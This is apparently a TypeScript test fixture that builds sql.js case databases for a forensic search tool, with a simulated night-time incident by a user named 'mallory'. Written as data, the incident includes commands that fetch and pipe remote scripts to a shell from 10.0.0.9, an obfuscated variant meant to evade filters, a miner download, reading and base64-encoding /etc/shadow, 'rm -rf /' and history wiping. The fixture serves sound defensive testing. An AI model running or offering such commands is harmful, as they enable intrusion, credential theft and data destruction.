// Case databases for search tests, built directly: sql.js, the migrations, rows, the index.
// (The import pipeline is tested on its own; search tests must not depend on it.)
import type { Database } from 'sql.js';
import { parseIsoToMicros } from '../../electron/core/timestamp.js';
import { migrate } from '../../electron/services/case/db/migration.js';
import { loadSqlJs } from '../../electron/services/case/db/sqljs.js';
import { updateSearchIndex } from '../../electron/services/search/search-index.js';

export interface FixtureSession {
  key: string;
  user?: string | null;
  host?: string | null;
  tty?: string | null;
}

export interface FixtureCommand {
  session: string;
  /** ISO time with a zone. */
  ts: string;
  text: string;
  /** Default: the session's. */
  user?: string | null;
  host?: string | null;
  source?: string;
  seq?: number;
}

export interface FixtureScreen {
  session: string;
  ts: string;
  text: string;
}

export interface FixtureFlag {
  rule: string;
  session: string;
  ts: string;
  end?: string;
  seqs?: number[];
}

export interface Fixture {
  sessions: FixtureSession[];
  commands: FixtureCommand[];
  screens?: FixtureScreen[];
  flags?: FixtureFlag[];
  /** Leave the rows unindexed (to test the indexer). */
  noIndex?: boolean;
}

export async function emptyCaseDb(): Promise<Database> {
  const SQL = await loadSqlJs();
  const db = new SQL.Database();
  migrate(db);
  db.run(
    `INSERT INTO evidence (id, sha256, kind, file_name, stored_as, size, format, imported_at, imported_by, verdict)
     VALUES (1, ?, 'bundle', 'fixture.trail', 'evidence/fixture', 0, 'trail', 0, 'test', 'verified')`,
    ['0'.repeat(64)],
  );
  return db;
}

/** Adds rows (sessions are created on first mention) and returns the session ids by key. */
export function addRows(db: Database, fixture: Omit<Fixture, 'noIndex'>): Map<string, number> {
  const ids = new Map<string, number>();
  for (const row of db.exec('SELECT id, session_key FROM sessions')[0]?.values ?? []) ids.set(String(row[1]), Number(row[0]));
  const sessions = new Map(fixture.sessions.map((s) => [s.key, s]));
  const insertSession = db.prepare('INSERT INTO sessions (evidence_id, session_key, user, host, tty) VALUES (1, ?, ?, ?, ?)');
  const insertCommand = db.prepare(
    'INSERT INTO commands (session_id, ts_us, seq, text, source, confidence, user, host) VALUES (?, ?, ?, ?, ?, 1, ?, ?)',
  );
  const insertScreen = db.prepare("INSERT INTO screen_text (session_id, ts_us, reason, text) VALUES (?, ?, 'command', ?)");
  const insertFlag = db.prepare("INSERT INTO flags (rule_id, severity, session_id, ts_us, end_us, seqs, explanation, created_at) VALUES (?, 'high', ?, ?, ?, ?, 'test', 0)");
  const sessionId = (key: string): number => {
    let id = ids.get(key);
    if (id === undefined) {
      const s = sessions.get(key) ?? { key };
      insertSession.run([key, s.user ?? null, s.host ?? null, s.tty ?? null]);
      id = Number(db.exec('SELECT last_insert_rowid()')[0]?.values[0]?.[0]);
      ids.set(key, id);
    }
    return id;
  };
  try {
    fixture.sessions.forEach((s) => sessionId(s.key));
    fixture.commands.forEach((c, i) => {
      const s = sessions.get(c.session);
      insertCommand.run([
        sessionId(c.session),
        parseIsoToMicros(c.ts),
        c.seq ?? i + 1,
        c.text,
        c.source ?? 'typed',
        c.user === undefined ? (s?.user ?? null) : c.user,
        c.host === undefined ? (s?.host ?? null) : c.host,
      ]);
    });
    for (const s of fixture.screens ?? []) insertScreen.run([sessionId(s.session), parseIsoToMicros(s.ts), s.text]);
    for (const f of fixture.flags ?? []) {
      insertFlag.run([f.rule, sessionId(f.session), parseIsoToMicros(f.ts), f.end === undefined ? null : parseIsoToMicros(f.end), JSON.stringify(f.seqs ?? [])]);
    }
  } finally {
    insertSession.free();
    insertCommand.free();
    insertScreen.free();
    insertFlag.free();
  }
  return ids;
}

export async function searchDb(fixture: Fixture): Promise<Database> {
  const db = await emptyCaseDb();
  db.exec('BEGIN');
  addRows(db, fixture);
  if (fixture.noIndex !== true) updateSearchIndex(db);
  db.exec('COMMIT');
  return db;
}

/** A small incident: two users on two hosts, a contractor doing suspicious things at night. */
export const INCIDENT: Fixture = {
  sessions: [
    { key: 's-alice-1', user: 'alice', host: 'web-1', tty: 'pts/1' },
    { key: 's-bob-1', user: 'bob', host: 'db-1', tty: 'pts/2' },
    { key: 's-mallory-1', user: 'mallory', host: 'web-2', tty: 'pts/7' },
  ],
  commands: [
    { session: 's-alice-1', ts: '2024-11-20T09:00:00.000001Z', text: 'kubectl -n shop get pods' },
    { session: 's-alice-1', ts: '2024-11-20T09:01:00Z', text: 'sudo apt install nginx' },
    { session: 's-alice-1', ts: '2024-11-20T09:02:00Z', text: 'kubectl -n shop rollout restart deploy/checkout' },
    { session: 's-bob-1', ts: '2024-11-20T10:00:00Z', text: 'psql -h db-1 -U bob -c "select 1"' },
    { session: 's-bob-1', ts: '2024-11-20T10:05:00Z', text: 'cat /etc/passwd', source: 'output' },
    { session: 's-bob-1', ts: '2024-11-20T10:06:00Z', text: 'git log --oneline' },
    { session: 's-mallory-1', ts: '2024-11-21T02:59:59Z', text: 'id' },
    { session: 's-mallory-1', ts: '2024-11-21T03:00:00Z', text: 'sudo cat /etc/shadow' },
    { session: 's-mallory-1', ts: '2024-11-21T03:01:00Z', text: 'curl -fsSL http://10.0.0.9/x.sh | sh' },
    { session: 's-mallory-1', ts: '2024-11-21T03:02:00Z', text: 'rm -rf / --no-preserve-root' },
    { session: 's-mallory-1', ts: '2024-11-21T03:03:00Z', text: 'c\\url http://10.0.0.9/k | /bin/ba\'\'sh' },
    { session: 's-mallory-1', ts: '2024-11-21T03:04:00Z', text: 'wget -q http://10.0.0.9/miner -O /tmp/.m' },
    { session: 's-mallory-1', ts: '2024-11-21T03:05:00Z', text: 'cat${IFS}/etc/shadow | base64' },
    { session: 's-mallory-1', ts: '2024-11-21T03:06:00Z', text: 'history -c' },
  ],
  screens: [
    { session: 's-bob-1', ts: '2024-11-20T10:05:00.5Z', text: 'bob@db-1:~$ cat /etc/passwd\nroot:x:0:0:root:/root:/bin/bash\nbob:x:1000:1000::/home/bob:/bin/bash\n' },
    { session: 's-mallory-1', ts: '2024-11-21T03:00:01Z', text: 'mallory@web-2:~$ sudo cat /etc/shadow\n[sudo] password for mallory:\nroot:$6$Zq1...:19700:0:99999:7:::\n' },
    { session: 's-mallory-1', ts: '2024-11-21T03:02:01Z', text: "rm: it is dangerous to operate recursively on '/'\nrm: use --no-preserve-root to override this failsafe\n" },
  ],
  flags: [{ rule: 'credential-access', session: 's-mallory-1', ts: '2024-11-21T03:00:00Z', end: '2024-11-21T03:00:30Z', seqs: [] }],
};
